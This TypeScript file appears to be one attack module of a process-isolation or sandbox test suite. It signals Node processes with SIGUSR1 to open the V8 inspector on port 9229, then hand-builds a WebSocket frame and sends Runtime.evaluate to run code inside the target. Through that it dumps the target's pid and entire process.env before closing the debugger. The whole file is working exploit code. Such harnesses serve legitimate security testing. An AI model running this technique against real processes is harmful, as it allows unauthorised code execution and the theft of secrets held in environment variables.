/** A6: SIGUSR1 opens the inspector of a Node process, and whoever connects to it runs code there. */
import { randomBytes } from 'node:crypto';
import { connect } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import type { Attack, World } from '../attack.ts';
import { Absent, attempt, type Yield } from '../attempt.ts';
import type { Attempt, Target } from '../brief.ts';
import { isVisible, targetsOf, unseen } from '../processes.ts';

const port = 9229;
const openMs = 500;
const freeMs = 2000;
const answerMs = 1500;

/** What the port answers within the deadline; `null` when nobody listens. */
function exchange(send: Buffer, enough: (received: string) => boolean): Promise<string | null> {
  return new Promise((resolve) => {
    const socket = connect(port, '127.0.0.1');
    let received = '';
    const end = (result: string | null): void => {
      clearTimeout(timer);
      socket.destroy();
      resolve(result);
    };
    const timer = setTimeout(() => end(received), answerMs);
    socket.on('error', () => end(null));
    socket.on('close', () => end(received));
    socket.on('connect', () => socket.write(send));
    socket.setEncoding('latin1').on('data', (chunk: string) => {
      received += chunk;
      if (enough(received)) end(received);
    });
  });
}

function get(path: string): Promise<string | null> {
  const request = `GET ${path} HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\nConnection: close\r\n\r\n`;
  return exchange(Buffer.from(request), () => false);
}

/** One masked text frame of RFC 6455, under 64 KiB. */
function textFrame(text: string): Buffer {
  const payload = Buffer.from(text);
  const mask = randomBytes(4);
  const head = Buffer.from([0x81, 0x80 | 126, payload.length >> 8, payload.length & 0xff]);
  return Buffer.concat([head, mask, payload.map((byte, index) => byte ^ (mask[index % 4] as number))]);
}

/** Evaluates an expression in the process behind the port; the raw answer. */
async function evaluate(path: string, expression: string): Promise<string> {
  const upgrade = `GET ${path} HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: ${randomBytes(16).toString('base64')}\r\n\r\n`;
  const ask = textFrame(
    JSON.stringify({ id: 1, method: 'Runtime.evaluate', params: { expression, returnByValue: true } }),
  );
  return (
    (await exchange(Buffer.concat([Buffer.from(upgrade), ask]), (text) => text.includes('"id":1'))) ?? ''
  );
}

const expression = `JSON.stringify([process.pid, process.env])`;
const closing = `setImmediate(() => process._debugEnd()), 0`;

async function until(condition: () => Promise<boolean>, milliseconds: number): Promise<boolean> {
  const deadline = performance.now() + milliseconds;
  while (performance.now() < deadline) {
    if (await condition()) return true;
    await sleep(20);
  }
  return false;
}

async function openInspector(target: Target): Promise<Yield> {
  if (!isVisible(target)) return unseen;
  if (!(await until(async () => (await get('/json/list')) === null, freeMs)))
    throw new Absent(`port ${port} is in use by another program`);
  process.kill(target.pid, 'SIGUSR1');
  let list = '';
  const opened = await until(async () => {
    list = (await get('/json/list')) ?? '';
    return list.includes('webSocketDebuggerUrl');
  }, openMs);
  if (!opened) return { refused: 'signalled, and no inspector opened' };
  const path = /"webSocketDebuggerUrl": "ws:\/\/[^/]+([^"]+)"/.exec(list)?.[1] ?? '/';
  const answer = await evaluate(path, expression);
  // Another program may have opened the same port in between.
  if (!answer.includes(`[${target.pid},`)) throw new Absent(`port ${port} is in use by another program`);
  await evaluate(path, closing);
  return { opened: 'evaluated code in it', shows: answer };
}

async function inspect({ brief, ask }: World): Promise<readonly Attempt[]> {
  const { targets } = await ask('victims');
  const attempts: Attempt[] = [];
  for (const target of [...targetsOf(brief, 'daemon', 'command'), ...targets])
    if (target.node)
      attempts.push(await attempt(`SIGUSR1 to ${target.name}, inspector`, () => openInspector(target)));
  return attempts;
}

export const inspector: readonly Attack[] = [{ number: 'A6', name: 'inspector', alone: true, run: inspect }];
